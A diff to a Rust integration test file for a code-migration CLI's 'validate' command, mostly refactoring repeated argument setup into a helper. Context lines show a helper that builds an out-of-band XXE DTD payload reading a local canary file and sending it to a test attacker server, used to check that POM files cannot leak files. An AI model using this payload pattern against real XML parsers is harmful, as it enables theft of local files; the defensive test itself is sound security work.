@@ -10,6 +10,29 @@ mod files;
 use common::bin;
 use files::FileServer;
 
+/// `validate --json` with the embedded runner, of `recipe` on the PR `main..migration` of `repo`.
+fn validate(repo: &std::path::Path, recipe: &std::path::Path, out: &std::path::Path) -> assert_cmd::Command {
+    let mut command = bin();
+    command
+        .args([
+            "validate",
+            "--json",
+            "--backend",
+            "embedded",
+            "--base",
+            "main",
+            "--head",
+            "migration",
+            "--repo",
+        ])
+        .arg(repo)
+        .arg("--recipe")
+        .arg(recipe)
+        .arg("--out")
+        .arg(out);
+    command
+}
+
 fn exfiltrating_dtd(canary: &std::path::Path, attacker: &FileServer) -> String {
     format!(
         "<!ENTITY % file SYSTEM \"file://{}\">\n<!ENTITY % all \"<!ENTITY &#x25; send SYSTEM '{}x?%file;'>\">\n%all;\n%send;\n",
@@ -72,26 +95,8 @@ fn no_pom_can_send_a_file_away_or_into_the_report() {
     )
     .unwrap();
     let out = dir.path().join("out");
-    let output = bin()
-        .args([
-            "validate",
-            "--json",
-            "--backend",
-            "embedded",
-            "--base",
-            "main",
-            "--head",
-            "migration",
-            "--repo",
-        ])
-        .arg(repo.path())
-        .arg("--recipe")
-        .arg(&recipe)
-        .arg("--out")
-        .arg(&out)
-        .env("REWRITE_ASSIST_POM_CACHE", "off")
-        .output()
-        .unwrap();
+    let output =
+        validate(repo.path(), &recipe, &out).env("REWRITE_ASSIST_POM_CACHE", "off").output().unwrap();
     let stdout = String::from_utf8_lossy(&output.stdout);
     let stderr = String::from_utf8_lossy(&output.stderr);
     assert_eq!(output.status.code(), Some(0), "{stderr}\n{stdout}");
@@ -159,25 +164,7 @@ fn pathological_files_cost_only_themselves() {
     )
     .unwrap();
     let out = dir.path().join("out");
-    let output = bin()
-        .args([
-            "validate",
-            "--json",
-            "--backend",
-            "embedded",
-            "--base",
-            "main",
-            "--head",
-            "migration",
-            "--repo",
-        ])
-        .arg(repo.path())
-        .arg("--recipe")
-        .arg(&recipe)
-        .arg("--out")
-        .arg(&out)
-        .output()
-        .unwrap();
+    let output = validate(repo.path(), &recipe, &out).output().unwrap();
     let stdout = String::from_utf8_lossy(&output.stdout);
     let stderr = String::from_utf8_lossy(&output.stderr);
     assert_eq!(output.status.code(), Some(0), "{stderr}\n{stdout}");
